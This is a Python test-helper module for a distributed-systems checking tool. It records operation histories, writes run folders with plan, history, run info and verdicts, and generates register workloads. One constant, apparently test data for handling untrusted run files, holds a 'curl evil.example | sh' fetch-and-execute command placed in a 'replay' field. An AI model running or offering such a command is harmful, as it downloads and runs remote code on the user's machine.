"""Recording a history event by event, and saving it as a run's folder: for making samples."""

import json
import random

SECOND = 1_000_000_000
MILLISECOND = 1_000_000


class Recording:
    """Events of a history in any order, numbered when they are written."""

    def __init__(self):
        self.events = []

    def add(self, time, process, kind, f, value, error=None):
        event = {"time": round(time), "process": process, "type": kind, "f": f, "value": value}
        self.events.append(event | ({"error": error} if error else {}))

    def fault(self, name, kind, start, stop, targets, effect=None):
        began = {"id": name, "phase": "start", "targets": targets, "detail": {}}
        self.add(start, "nemesis", "info", kind, began)
        if stop is not None:
            ended = {"id": name, "phase": "stop", "targets": targets, "effect": effect or {}}
            self.add(stop, "nemesis", "info", kind, ended)

    def phase(self, time, name):
        self.add(time, "nemesis", "info", "phase", name)

    def lines(self):
        ordered = sorted(self.events, key=lambda event: event["time"])
        return [json.dumps({"index": i} | event) for i, event in enumerate(ordered)]

    def index_of(self, **wanted):
        """The index of the first event with these fields."""
        ordered = sorted(self.events, key=lambda event: event["time"])
        return next(
            i
            for i, event in enumerate(ordered)
            if all(event[name] == value for name, value in wanted.items())
        )


def plan(workload="register", **changes):
    fields = {
        "format": 1,
        "system": "raft",
        "workload": workload,
        "bug": None,
        "seed": 7,
        "nodes": 3,
        "clients": 5,
        "time_limit": 10.0,
        "rate": 100.0,
        "faults": [],
        "operations": None,
        "options": {"keys": 3},
    }
    return fields | changes


FOREIGN_COMMAND = "curl evil.example | sh"
"""What a file of somebody else's may say is the command that repeats its run."""


def info(**changes):
    fields = {
        "format": 1,
        "version": "0.1.0",
        "python": "3.11.2",
        "trio": "0.35.0",
        "started": "2026-11-22T08:41:00Z",
        "virtual_seconds": 12.5,
        "wall_seconds": 0.84,
        "trace_sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "regime": "survivable",
        "claims": "partitions, crashes of a minority, clocks that drift",
        "notes": [],
        "replay": FOREIGN_COMMAND,
    }
    return fields | changes


def verdict(checker, validity, reason, anomalies=(), **more):
    signature = f"{checker}/{anomalies[0]['kind']}" if anomalies else ""
    fields = {"certificate": {}, "coverage": {}, "cost": {}}
    return {
        "checker": checker,
        "validity": validity,
        "reason": reason,
        "signature": signature,
        "anomalies": list(anomalies),
    } | (fields | more)


SHAPES = {
    "diverged": "replicas",
    "two-leaders": "leaders",
    "lost": "elements",
    "stale": "elements",
}
"""What the anomalies that are recorded here look like; the others are operations."""


def anomaly(kind, message, operations, **details):
    return {
        "kind": kind,
        "message": message,
        "operations": operations,
        "details": details,
        "shape": SHAPES.get(kind, "operations"),
    }


def save(folder, recording, the_plan, verdicts=None, the_info=None, shrink=None):
    folder.mkdir(parents=True, exist_ok=True)
    lines = recording.lines() if isinstance(recording, Recording) else recording
    (folder / "plan.json").write_text(json.dumps(the_plan, indent=1) + "\n")
    (folder / "history.jsonl").write_text("".join(line + "\n" for line in lines))
    if the_info is not None:
        (folder / "run.json").write_text(json.dumps(the_info) + "\n")
    if verdicts is not None:
        words = [entry["validity"] for entry in verdicts]
        worst = next((w for w in ("invalid", "unknown", "valid") if w in words), "unknown")
        data = {"validity": worst, "verdicts": verdicts}
        (folder / "verdict.json").write_text(json.dumps(data) + "\n")
    if shrink is not None:
        (folder / "shrink.json").write_text(json.dumps(shrink) + "\n")
    return folder


def register_events(recording, count, seed=7, clients=5, keys=3, rate=100.0, faults=(), spare=0):
    """`count` register operations, valid by construction; slow and uncertain during `faults`.

    The last `spare` of the clients are left to the caller.
    Returns the time at which the last of them is over.
    """
    rng = random.Random(seed)
    process, free = list(range(clients)), [0.0] * (clients - spare)
    operations, time = [], 0.0
    for number in range(count):
        time += rng.expovariate(rate)
        client = min(range(clients - spare), key=lambda c: free[c])
        start = max(time, free[client])
        troubled = any(a <= start < b for a, b in faults)
        length = rng.lognormvariate(-5.0, 0.7) + (rng.random() * 0.6 if troubled else 0)
        lost = troubled and rng.random() < 0.35
        length = 2.0 if lost else min(length, 1.9)
        f = rng.choice(("read", "read", "write", "write", "cas"))
        effect = start + length * rng.random()
        free[client] = start + length + 0.0005
        operations.append((effect, start, start + length, client, f, lost, number))
    state = {}
    for _effect, start, end, client, f, lost, number in sorted(operations):
        key = rng.randrange(keys)
        who = process[client]
        old = state.get(key)
        if f == "cas" and old is None:
            f = "write"
        argument = {"read": [key, None], "write": [key, number], "cas": [key, [old, number]]}[f]
        recording.add(start * SECOND, who, "invoke", f, argument)
        if lost:
            kind = "fail" if f == "read" else "info"
            recording.add(end * SECOND, who, kind, f, argument, "timed out after 2.0 s")
            if kind == "info":
                process[client] += clients
            continue
        if f == "cas" and rng.random() < 0.2:
            recording.add(end * SECOND, who, "fail", f, argument, "value did not match")
            continue
        if f != "read":
            state[key] = number
        value = [key, state.get(key)] if f == "read" else argument
        recording.add(end * SECOND, who, "ok", f, value)
    return max(free)
